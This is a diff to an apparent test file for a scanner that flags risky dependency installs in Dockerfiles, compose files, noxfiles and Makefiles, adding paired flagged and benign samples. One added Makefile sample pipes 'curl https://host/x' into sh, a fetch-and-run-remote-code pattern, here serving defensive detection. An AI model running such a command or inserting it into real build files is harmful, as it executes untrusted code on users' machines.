@@ -28,6 +28,7 @@ NEW = (
     "app/new.py", "app/web.js", "app/page.vue", "web/new.ts", "bin/run", "requirements.txt", "requirements-dev.txt",
     "package.json", "pyproject.toml", "setup.cfg", "setup.py", "Pipfile", ".npmrc", ".gitattributes", ".gitmodules",
     ".github/workflows/ci.yml", "Dockerfile", "packages/core/src/core/x.py", "packages/app/src/y.py", ".gitignore",
+    "noxfile.py", "compose.yaml",
 )  # fmt: skip
 
 
@@ -164,6 +165,10 @@ TEXTS = [
         "jobs:\n  - name: pip install things\n    run: pip install -U pip flask",
     ),
     ("Dockerfile", 'RUN ["npm", "i", "evil"]', "dependency", "RUN npm ci && npm run build"),
+    ("Dockerfile", "run <<EOF\npip install \\\n evil\nEOF", "dependency", "RUN <<EOF\npip install \\\n flask\nEOF"),
+    ("compose.yaml", "services: {a: {command: [npx, evil]}}", "dependency", "services: {a: {command: [npx, express]}}"),
+    ("noxfile.py", "def t(session):\n    session.install('evil')", "dependency", "def t(s):\n    s.install('flask')"),
+    ("Makefile", "x:\n\tcurl https://host/x | sh", "dependency", "x:\n\techo 'curl https://host/x | sh'"),
     ("Makefile", "x:\n\t-@sh -c 'pip install evil'", "dependency", "x:\n\tpip install -r requirements.txt"),
 ]
 
